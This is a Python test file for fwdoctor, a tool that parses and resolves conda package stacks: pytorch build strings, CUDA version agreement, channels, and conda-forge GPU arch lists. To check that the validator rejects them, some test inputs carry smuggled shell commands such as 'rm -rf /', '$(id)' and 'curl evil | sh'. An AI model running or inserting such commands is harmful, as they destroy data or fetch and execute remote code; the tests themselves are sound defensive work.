"""Stacks with conda packages (issue 15, item 1): the `conda` field, its match specs, and the
resolution of a conda base with pip on top against the frozen test KB (tests/kb, whose
conda.yaml is a copy of conda-forge's arch lists as first written).

Build strings in these tests follow conda-forge's pytorch recipe template
(conda-forge/pytorch-cpu-feedstock recipe/meta.yaml: cuda{NNN}_{blas}_py{XY}_h{hash}_{build},
cpu_{blas}_py{XY}_h{hash}_{build}; before 2.5: cuda{NNN}py{XY}h{hash}_{build}) and the
pytorch channel's py3.11_cuda12.1_cudnn8.9.2_0 form."""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path

import pytest
import yaml

from conftest import TEST_KB_DIR, require_module
from fwdoctor.kb import KB, KB_DIR
from fwdoctor.recipes import stack as stack_mod

REPO = Path(__file__).resolve().parent.parent
CU126 = {"packages": ["pytorch=2.5.1=cuda126*", "cuda-version=12.6", "cudnn", "nccl"]}

pytestmark = pytest.mark.usefixtures("use_test_kb")  # the CLI tests read tests/kb too


@pytest.fixture(scope="module")
def kb(test_kb):
    return test_kb


def parse(**fields):
    return stack_mod.parse({"name": "t", "python": "3.11", **fields}, "t.yaml")


def resolve(kb, **fields):
    return stack_mod.resolve(parse(**fields), kb)


def impossible(kb, **fields) -> str:
    with pytest.raises(stack_mod.StackImpossible) as err:
        resolve(kb, **fields)
    return str(err.value)


def malformed(**fields) -> str:
    with pytest.raises(stack_mod.StackError) as err:
        parse(**fields)
    return str(err.value)


# --------------------------------------------------------------------------- the field
def test_the_conda_mapping_keeps_channels_platforms_and_packages():
    spec = parse(conda={"channels": ["conda-forge", "file:///srv/channel"], "platforms": ["linux-64", "linux-aarch64"],
                        "packages": ["python=3.11", "pytorch=2.5.1=cuda126*", "cudnn"]})
    assert spec.conda == ("python=3.11", "pytorch=2.5.1=cuda126*", "cudnn")
    assert spec.conda_channels == ("conda-forge", "file:///srv/channel")
    assert spec.conda_platforms == ("linux-64", "linux-aarch64")
    assert spec.torch is None  # conda's pytorch is torch


def test_the_older_list_form_means_conda_forge_for_linux_64():
    spec = parse(torch="2.14.1", conda=["numpy=2.1"])
    assert (spec.conda, spec.conda_channels, spec.conda_platforms) == (("numpy=2.1",), ("conda-forge",), ("linux-64",))


def test_a_stack_without_conda_keeps_no_channels():
    spec = parse(torch="2.14.1")
    assert (spec.conda, spec.conda_channels, spec.conda_platforms) == ((), (), ())


@pytest.mark.parametrize(
    "conda, field, words",
    [
        ({"packages": ["numpy; rm -rf /"]}, "conda.packages", "'numpy; rm -rf /': has a character no plain conda spec needs"),
        ({"packages": ["numpy\nRUN curl x"]}, "conda.packages", "has a character no plain conda spec needs"),
        ({"packages": ['numpy[version=">=1"]']}, "conda.packages", "has a character"),
        ({"packages": ["x>=1,,<2"]}, "conda.packages", "'x>=1,,<2': not"),
        ({"packages": ["numpy", "numpy=2.1"]}, "conda.packages", "numpy is already given as 'numpy'"),
        ({"packages": []}, "conda.packages", "non-empty list of strings"),
        ({"channels": ["conda-forge"]}, "conda.packages", "missing"),
        ({"packages": ["numpy"], "channels": ["conda forge"]}, "conda.channels", "'conda forge' is not a channel name"),
        ({"packages": ["numpy"], "channels": ["https://example.org/$(id)"]}, "conda.channels", "no spaces, quotes or shell characters"),
        ({"packages": ["numpy"], "channels": ["ftp://example.org/ch"]}, "conda.channels", "only http://, https:// and file://"),
        ({"packages": ["numpy"], "channels": ["file://srv/ch"]}, "conda.channels", "file:///ABSOLUTE/PATH"),
        ({"packages": ["numpy"], "channels": ["conda-forge", "conda-forge"]}, "conda.channels", "listed twice"),
        ({"packages": ["numpy"], "platforms": ["linux-65"]}, "conda.platforms", "'linux-65' is not a conda platform"),
        ({"packages": ["numpy"], "solver": "mamba"}, "conda", "unknown key 'solver'"),
        ("numpy", "conda", "expected a list of conda match specs"),
    ],
)
def test_a_malformed_conda_field_names_the_file_the_field_and_the_spec(conda, field, words):
    message = malformed(torch="2.14.1", conda=conda)
    assert message.startswith(f"t.yaml: field {field!r}: ") and words in message


@pytest.mark.parametrize(
    "packages, words",
    [
        (["pytorch=2.5.1"], "'pytorch=2.5.1': name the build, e.g. pytorch=2.5.1=cuda126* or pytorch=2.5.1=cpu*"),
        (["pytorch=2.5.1=*_mkl_*"], "name the build"),
        (["pytorch>=2.5=cuda126*"], "pin the exact release"),
        (["torchvision=0.20.1"], "'torchvision=0.20.1' brings conda's pytorch: name it too"),
        (["pytorch-gpu=2.5.1"], "brings conda's pytorch"),
    ],
)
def test_a_conda_pytorch_must_say_its_release_and_variant(packages, words):
    assert words in malformed(conda=packages)


def test_torch_is_required_unless_conda_brings_pytorch():
    assert "field 'torch': missing (required unless the conda packages include pytorch=X.Y.Z=<build>)" in malformed(conda=["numpy"])
    assert parse(conda=["pytorch=2.5.1=cpu*"]).torch is None


def test_pip_requirements_may_not_name_torch_over_conda_pytorch():
    message = malformed(conda=["pytorch=2.5.1=cuda126*"], requirements=["torch==2.5.1"])
    assert "field 'requirements': 'torch==2.5.1': conda's 'pytorch=2.5.1=cuda126*' provides torch" in message


# --------------------------------------------------------------------------- specs and builds
SPECS = ["python 3.11", "python=3.11", "python==3.11", "python 3.11.*", "cuda-version=12.6", "cuda-version>=12,<13",
         "cudnn * *cuda11*", "python=3.11=*_cpython", "PyTorch=2.5.1", "pytorch=2.5.1=cuda126*", "pytorch==2.5.1=cuda126*",
         "conda-forge::pytorch=2.5.1", "nccl", "numpy>=1.26,<2|>=2.1"]


def test_the_fallback_pattern_reads_plain_specs_as_py_rattler_does(monkeypatch):
    from fwdoctor.recipes import conda_spec as cs
    require_module("rattler", "pip install 'fwdoctor[conda]'")
    by_rattler = [cs.parse_spec(s) for s in SPECS]
    monkeypatch.setattr(cs, "USE_RATTLER", False)
    assert [cs.parse_spec(s) for s in SPECS] == by_rattler
    assert by_rattler[9].version == "==2.5.1" and by_rattler[9].build == "cuda126*" and by_rattler[1].version == "3.11.*"


def test_without_py_rattler_the_resolution_says_which_checker_judged_the_specs(kb, monkeypatch):
    from fwdoctor.recipes import conda_spec as cs

    monkeypatch.setattr(cs, "USE_RATTLER", False)
    r = resolve(kb, conda=CU126)
    assert r.variant == "cu126"
    assert any("conda specs checked with fwdoctor's strict pattern (py-rattler not installed" in n for n in r.notes)
    assert "x>=1,,<2': not a plain conda match spec" in malformed(torch="2.14.1", conda=["x>=1,,<2"])


@pytest.mark.parametrize(
    "build, variant, cuda",
    [
        ("cuda126*", "cu126", "12.6"),
        ("cuda126_mkl_py311_h2dd0e60_302", "cu126", "12.6"),
        ("cuda120py311h1e6de2b_300", "cu120", "12.0"),
        ("py3.11_cuda12.1_cudnn8.9.2_0", "cu121", "12.1"),
        ("cpu*", "cpu", None),
        ("cpu_mkl_py311_h2c2a9d0_102", "cpu", None),
        ("py3.11_cpu_0", "cpu", None),
        ("cuda12*", "cuda", None),
        ("cuda*", "cuda", None),
    ],
)
def test_the_pytorch_build_string_names_the_variant(build, variant, cuda):
    from fwdoctor.recipes.conda_spec import torch_build

    found = torch_build(build)
    assert (found.variant, found.cuda) == (variant, cuda)


# --------------------------------------------------------------------------- resolution
def test_conda_pytorch_is_the_stacks_torch_and_the_pip_part_holds_none(kb):
    r = resolve(kb, conda=CU126, requirements=["numpy==2.1.3"])
    assert (r.torch, r.variant, r.cuda, r.torch_local) == ("2.5.1", "cu126", "12.6", "2.5.1+cu126")
    assert r.torch_from_conda
    assert r.requirements == ("numpy==2.1.3", *stack_mod.TOOL_REQUIREMENTS)
    assert not any(req.startswith(("torch", "torchvision")) for req in r.requirements)
    assert (r.index_url, r.extra_index_urls) == ("https://pypi.org/simple", ())
    assert r.conda == ("python=3.11", "pytorch=2.5.1=cuda126*", "cuda-version=12.6", "cudnn", "nccl")
    assert (r.conda_channels, r.conda_platforms) == (("conda-forge",), ("linux-64",))
    assert r.base_image == "nvidia/cuda:12.6.3-base-ubuntu24.04"  # pip has no 2.5.1+cu126 wheel at all


def test_the_python_is_one_and_conda_names_it_first(kb):
    r = resolve(kb, conda=["pytorch=2.5.1=cpu*", "python 3.11.*"])
    assert r.conda == ("python 3.11.*", "pytorch=2.5.1=cpu*") and r.variant == "cpu" and r.cuda is None
    assert "does not admit Python 3.11 (the stack's 'python'); there is one Python, conda's" in impossible(kb, conda=["python=3.12", "pytorch=2.5.1=cpu*"])
    assert "'python>=3.10' also admits Python 3.10, 3.12, 3.13, ...; the pip part is locked for 3.11 alone: pin python=3.11" in impossible(
        kb, conda=["python>=3.10", "pytorch=2.5.1=cpu*"])


def test_pip_torch_on_conda_python_needs_no_os_that_ships_that_python(kb):
    # pip alone: no base OS ships Python 3.11 for a CUDA image (tests/test_stack_resolve.py).
    assert "no base OS ships Python 3.11" in impossible(kb, torch="2.14.1")
    r = resolve(kb, torch="2.14.1", conda=["numpy=2.1"])
    assert r.requirements[0] == "torch==2.14.1" and not r.torch_from_conda
    assert r.conda == ("python=3.11", "numpy=2.1") and r.os == "ubuntu24.04" and r.variant == "cu130"


def test_the_cuda_comes_from_the_cuda_version_pin_when_the_build_string_has_none(kb):
    r = resolve(kb, conda=["pytorch=2.5.1=cuda*", "cuda-version=12.6"])
    assert (r.variant, r.cuda) == ("cu126", "12.6")
    assert "names no CUDA major.minor: write the build as cuda126* or pin cuda-version=12.6" in impossible(kb, conda=["pytorch=2.5.1=cuda*"])
    assert "is a CUDA 12 build, but the cuda-version pin says CUDA 11.8" in impossible(kb, conda=["pytorch=2.5.1=cuda12*", "cuda-version=11.8"])


@pytest.mark.parametrize(
    "fields, words",
    [
        (dict(torch="2.4.0"), "'torch' says 2.4.0 but the conda packages give conda pytorch 2.5.1 (cu126, 'pytorch=2.5.1=cuda126*')"),
        (dict(cuda="12.8"), "'cuda' says 12.8 but the conda packages give conda pytorch 2.5.1 (cu126"),
        (dict(cuda="cpu"), "'cuda' says cpu but"),
    ],
)
def test_the_stacks_torch_and_cuda_must_agree_with_conda_pytorch(kb, fields, words):
    assert words in impossible(kb, conda=CU126, **fields)
    assert resolve(kb, conda=CU126, torch="2.5.1", cuda="12.6").variant == "cu126"


@pytest.mark.parametrize(
    "packages, words",
    [
        (["pytorch=2.5.1=cuda126*", "cuda-version=11.8"], "CUDA majors disagree: conda 'pytorch=2.5.1=cuda126*' (CUDA 12) and 'cuda-version=11.8' (admits CUDA 11)"),
        (["pytorch=2.5.1=cuda126*", "cudnn=*=*cuda11*"], "CUDA majors disagree: conda 'pytorch=2.5.1=cuda126*' (CUDA 12) and 'cudnn=*=*cuda11*' (a CUDA 11 build)"),
        (["pytorch=2.5.1=cuda126*", "nccl * *cuda11*"], "'nccl * *cuda11*' (a CUDA 11 build)"),
        (["pytorch=2.5.1=cuda118*", "cudatoolkit>=12"], "conda 'pytorch=2.5.1=cuda118*' (CUDA 11) and 'cudatoolkit>=12' (admits CUDA 12"),
        (["pytorch=2.5.1=cpu*", "cuda-version=12.6", "cudnn=*=*cuda11*"], "'cuda-version=12.6' (admits CUDA 12) and 'cudnn=*=*cuda11*' (a CUDA 11 build)"),
    ],
)
def test_cuda_majors_of_pytorch_cuda_version_cudnn_and_nccl_must_agree(kb, packages, words):
    assert words in impossible(kb, conda=packages)


def test_agreeing_cuda_pins_and_builds_resolve(kb):
    r = resolve(kb, conda=["pytorch=2.5.1=cuda126*", "cuda-version>=12,<13", "cudnn=*=*cuda12*", "nccl"])
    assert r.cuda == "12.6"


def test_the_driver_floor_is_the_kbs_for_the_conda_builds_cuda(kb):
    floor = kb.cuda.driver_floor("12.6")  # the very rows the pip path reads
    assert resolve(kb, conda=CU126, min_driver=floor).driver_floor == floor
    message = impossible(kb, conda=CU126, min_driver="520.61.05")
    assert f"conda pytorch 2.5.1 (cu126, 'pytorch=2.5.1=cuda126*') needs CUDA 12.6, which needs driver >= {floor}; the fleet's oldest driver is 520.61.05" in message


def test_a_cpu_conda_pytorch_cannot_target_gpus(kb):
    assert "targets GPUs 8.0 but conda pytorch 2.5.1 (cpu, 'pytorch=2.5.1=cpu*') is a CPU build" in impossible(
        kb, conda=["pytorch=2.5.1=cpu*"], gpus=["8.0"])
    assert "asks for a CUDA build" in impossible(kb, conda=["pytorch=2.5.1=cpu*", "pytorch-gpu=2.5.1"])
    assert "asks for the CPU build" in impossible(kb, conda=["pytorch=2.5.1=cuda126*", "pytorch-cpu=2.5.1"])


def test_pip_companions_would_reinstall_torch_over_conda_pytorch(kb):
    message = impossible(kb, conda=CU126, companions=["torchvision"])
    assert "companions torchvision come from pip and pin pip's torch, which would be installed over conda pytorch 2.5.1 (cu126, 'pytorch=2.5.1=cuda126*')" in message


# --------------------------------------------------------------------------- GPU arch: conda-forge's lists
def test_target_gpus_are_judged_on_conda_forges_own_arch_list_not_the_wheels(kb):
    # The pip 2.10.0+cu130 wheel has no sm_110 kernels and its compute_120 PTX cannot JIT down;
    # conda-forge's cuda130 build compiles sm_110 (tests/kb/conda.yaml, S-CF-2100).
    assert "no kernels for GPU 11.0" in impossible(kb, torch="2.10.0", cuda="13.0", python="3.12", gpus=["11.0"])
    r = resolve(kb, conda=["pytorch=2.10.0=cuda130*"], gpus=["11.0", "7.5"])
    assert r.gpus == {"11.0": "sass sm_110", "7.5": "sass sm_75"}
    assert r.arch_list == ("7.5", "8.0", "8.6", "9.0", "10.0", "11.0", "12.0+PTX") and "S-CF-2100" in r.sources
    # and the other way round: the cu126 wheel of 2.10.0 runs on sm_50, conda-forge's cuda130 build does not.
    assert resolve(kb, torch="2.10.0", cuda="12.6", python="3.12", gpus=["5.0"]).gpus == {"5.0": "sass sm_50"}
    message = impossible(kb, conda=["pytorch=2.10.0=cuda130*"], gpus=["5.0"])
    assert "no kernels for GPU 5.0 (sm_50) in conda pytorch 2.10.0 (cu130, 'pytorch=2.10.0=cuda130*'), conda-forge's build" in message


def test_a_build_the_kb_has_no_conda_forge_row_for_is_not_checked_and_says_so(kb):
    r = resolve(kb, conda=["pytorch=2.5.1=cuda124*"], gpus=["8.0"])
    assert r.gpus["8.0"].startswith("not checked: no arch list of conda-forge's pytorch 2.5.1 cuda124 build")
    assert r.arch_list is None
    assert any("not confirmed for conda-forge builds" in n for n in r.notes)


def test_pytorch_from_another_channel_is_not_judged_by_conda_forges_list(kb):
    r = resolve(kb, conda={"channels": ["pytorch", "conda-forge"], "packages": ["pytorch=2.5.1=cuda126*"]}, gpus=["3.5"])
    assert r.gpus["3.5"] == "not checked: pytorch comes from channel pytorch; the KB knows conda-forge's builds only"
    r = resolve(kb, conda={"channels": ["conda-forge"], "packages": ["pytorch::pytorch=2.5.1=cuda126*"]}, gpus=["3.5"])
    assert r.gpus["3.5"].startswith("not checked: pytorch comes from channel pytorch")
    assert "no kernels for GPU 3.5" in impossible(kb, conda={"channels": ["https://conda.anaconda.org/conda-forge"], "packages": ["pytorch=2.5.1=cuda126*"]}, gpus=["3.5"])


def test_a_kb_folder_without_conda_yaml_knows_no_conda_forge_build(tmp_path):
    for path in TEST_KB_DIR.glob("*.yaml"):
        if path.name != "conda.yaml":
            shutil.copy(path, tmp_path / path.name)
    bare = KB.load(tmp_path)
    assert bare.conda.pytorch_build("2.10.0", "13.0") is None
    r = stack_mod.resolve(parse(conda=["pytorch=2.10.0=cuda130*"], gpus=["11.0"]), bare)
    assert r.gpus["11.0"].startswith("not checked") and any("not confirmed for conda-forge builds" in n for n in r.notes)


# --------------------------------------------------------------------------- data, digest, CLI
def test_to_data_and_the_digest_carry_the_conda_part(kb):
    base = resolve(kb, conda=CU126)
    data = base.to_data()
    assert data["conda_channels"] == ["conda-forge"] and data["conda_platforms"] == ["linux-64"]
    assert list(data).index("conda_channels") == list(data).index("conda") + 1
    other_channel = resolve(kb, conda={**CU126, "channels": ["file:///srv/channel"]})
    other_platforms = resolve(kb, conda={**CU126, "platforms": ["linux-64", "linux-aarch64"]})
    other_spec = resolve(kb, conda={"packages": [*CU126["packages"], "numpy"]})
    assert len({base.digest, other_channel.digest, other_platforms.digest, other_spec.digest}) == 4


def test_a_pip_only_stacks_data_and_digest_are_what_they_were(kb):
    r = resolve(kb, torch="2.14.1", python="3.12")
    data = r.to_data()
    assert "conda_channels" not in data and "conda_platforms" not in data and data["conda"] == []
    # The digest formula before conda stacks: committed locks of pip stacks stay fresh.
    old = {k: data[k] for k in ("name", "python", "torch", "variant", "glibc", "index_url", "extra_index_urls", "requirements", "conda")}
    assert r.digest == hashlib.sha256(yaml.safe_dump(old, sort_keys=True).encode()).hexdigest()


def test_stack_resolve_shows_the_conda_part(tmp_path, cli):
    path = tmp_path / "cf.yaml"
    path.write_text("name: cf\npython: '3.11'\ngpus: ['8.0']\nconda:\n  channels: [conda-forge]\n"
                    "  packages: ['pytorch=2.5.1=cuda126*', 'cuda-version=12.6', cudnn, nccl]\nrequirements: ['numpy==2.1.3']\n")
    result = cli("stack", "resolve", str(path))
    assert result.exit_code == 0
    assert "conda:\n- python=3.11\n- pytorch=2.5.1=cuda126*\n" in result.output and "conda_channels:\n- conda-forge\n" in result.output
    assert "conda part: 5 specs from conda-forge for linux-64 (Python 3.11); pip part: 5 requirements; torch 2.5.1+cu126 from conda" in result.output
    data = json.loads(cli("-q", "stack", "resolve", "--json", str(path)).output)
    assert (data["torch"], data["variant"], data["conda_platforms"], data["gpus"]) == ("2.5.1", "cu126", ["linux-64"], {"8.0": "sass sm_80"})


def test_stack_resolve_exits_1_for_an_impossible_conda_stack_and_2_for_a_malformed_one(tmp_path, cli):
    path = tmp_path / "cf.yaml"
    path.write_text("name: cf\npython: '3.11'\nconda: ['pytorch=2.5.1=cuda126*', 'cuda-version=11.8']\n")
    result = cli("stack", "resolve", str(path))
    assert result.exit_code == 1 and "impossible stack: stack cf: CUDA majors disagree" in result.output
    path.write_text("name: cf\npython: '3.11'\nconda: ['pytorch=2.5.1=cuda126*; curl evil | sh']\n")
    result = cli("stack", "resolve", str(path))
    assert result.exit_code == 2 and f"{path}: field 'conda': 'pytorch=2.5.1=cuda126*; curl evil | sh'" in result.output


def test_the_shipped_conda_rows_cite_the_feedstock_commit_they_were_read_at():
    shipped = yaml.safe_load((KB_DIR / "conda.yaml").read_text())
    rows = KB.load(KB_DIR).conda.pytorch_builds()
    assert len(rows) == len(shipped["conda_forge_pytorch"]) >= 19
    for row in rows:
        for key in row.source:
            assert shipped["sources"][key].startswith("conda-forge/pytorch-cpu-feedstock@") and ":recipe/build.sh" in shipped["sources"][key]
